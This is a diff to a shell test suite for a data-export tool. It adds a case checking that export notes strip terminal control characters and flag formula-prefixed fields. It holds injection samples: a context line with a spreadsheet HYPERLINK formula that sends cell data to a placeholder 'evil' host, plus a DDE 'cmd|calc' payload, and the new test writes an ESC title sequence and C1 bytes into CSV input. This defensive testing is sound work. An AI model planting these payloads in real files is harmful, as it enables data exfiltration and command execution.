@@ -1079,3 +1079,14 @@ assert_eq '=HYPERLINK("http://evil/?"&A1,"click")|+cmd|calc!A0|@SUM(1+1)' "$(pyt
 run --db formula.sqlite export -o formula_out.geojson
 assert_not_contains "$OUT" "spreadsheet" "no note for GeoJSON"
 case_end
+
+case_begin "the export's notes quote a partner's text without its control characters (a category with ESC and C1 bytes)"
+printf 'id,company,category,lon,lat\nC1,H,监控\033]0;X\007,116.4,39.9\nC2,H,=\302\233evil,1,1\n' > ctl.csv
+fp_init ctl.sqlite && "$FP" -q --db ctl.sqlite import ctl.csv && "$FP" -q --db ctl.sqlite aggregate --by country --group category
+run --db ctl.sqlite export --what aggregate:country_by_category -o ctl_agg.geojson
+assert_contains "$OUT" "group column names cannot spell their values" "the key's note"
+out1=$OUT
+run --db ctl.sqlite export -o ctl.csv.out.csv
+assert_contains "$OUT" "field category: '=?evil'" "the formula note, the C1 byte shown as ?"
+assert_eq 0 "$(printf '%s%s' "$out1" "$OUT" | LC_ALL=C grep -c $'[\x01-\x08\x0b-\x1f\x7f]\|\xc2[\x80-\x9f]')" "no control character in either note"
+case_end
